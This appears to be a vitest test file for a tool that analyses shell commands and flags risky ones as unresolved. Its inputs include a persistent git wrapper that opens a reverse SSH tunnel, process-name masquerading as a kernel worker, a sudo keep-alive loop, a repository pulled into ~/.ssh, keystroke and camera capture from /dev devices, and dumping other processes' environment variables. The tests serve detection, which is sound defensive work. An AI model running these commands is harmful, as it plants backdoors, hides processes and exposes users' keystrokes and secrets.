import { describe, expect, it } from 'vitest'
import { analyse } from '../analyse.ts'

describe('a warning about one part', () => {
  it('does not hide what is kept for every shell, or who goes by another name', () => {
    const parts = (command: string) => analyse(command).unknowns?.map(({ from }) => from)
    expect(
      parts("fish -c 'function git; ssh -fN -R 1:localhost:22 example.net; end; funcsave git'"),
    ).toEqual(['who comes in by the tunnel', 'what runs under this name in every shell'])
    expect(parts(`fish -c 'alias --save ls "ssh example.net"'`)).toEqual([
      'what runs under this name in every shell',
    ])
    expect(parts('exec -a "[kworker/u8:2]" sleep 100')).toEqual([
      'a program that goes by the name of another',
    ])
  })

  it.each([
    'exec -a "$0" python3 app.py',
    'exec -a -bash bash -l -c ls',
    'alias ll="ls -l"',
  ])('and nothing is hidden by %s', (command) => {
    expect(analyse(command).certainty).toBe('known')
  })
})

describe('rights that a loop keeps open', () => {
  it.each([
    'while true; do sudo -v; sleep 60; done',
    'while :; do sudo -nv; sleep 60; done &',
  ])('%s is not known', (command) => {
    expect(analyse(command).unknowns?.[0]?.from).toBe('who uses the rights that stay open')
  })

  it.each([
    'sudo -v',
    'sudo -v; while true; do sudo -n true; sleep 60; kill -0 "$$" || exit; done 2>/dev/null &',
  ])('%s is', (command) => {
    expect(analyse(command).certainty).toBe('known')
  })
})

describe('a repository that is pulled where keys lie', () => {
  it('is not known, and is in a project', () => {
    const pull = 'git pull https://github.com/ann/k main'
    expect(analyse(`cd ~/.ssh && git init -q && ${pull}`).certainty).toBe('unresolved')
    expect(analyse(`cd ~/project && ${pull}`).certainty).toBe('known')
  })
})

describe('devices that tell what people do', () => {
  it.each([
    'cat /dev/input/event0',
    'cat /dev/input/event*',
    'dd if=/dev/video0 of=x.raw',
  ])('%s is not known', (command) => {
    expect(analyse(command)).toMatchObject({ verdict: 'ALLOW', certainty: 'unresolved' })
  })
})

describe('code that shows the variables of other processes', () => {
  it.each([
    `python3 -c 'import psutil;[print(p.info) for p in psutil.process_iter(["environ"])]'`,
    `python3 -c 'import psutil;print(psutil.Process(1).environ())'`,
  ])('%s is not known', (command) => {
    expect(analyse(command).certainty).toBe('unresolved')
  })

  it('is known where it shows names or loads', () => {
    for (const code of ['psutil.cpu_percent()', '[p.name() for p in psutil.process_iter()]'])
      expect(analyse(`python3 -c 'import psutil; print(${code})'`).certainty).toBe('known')
  })
})
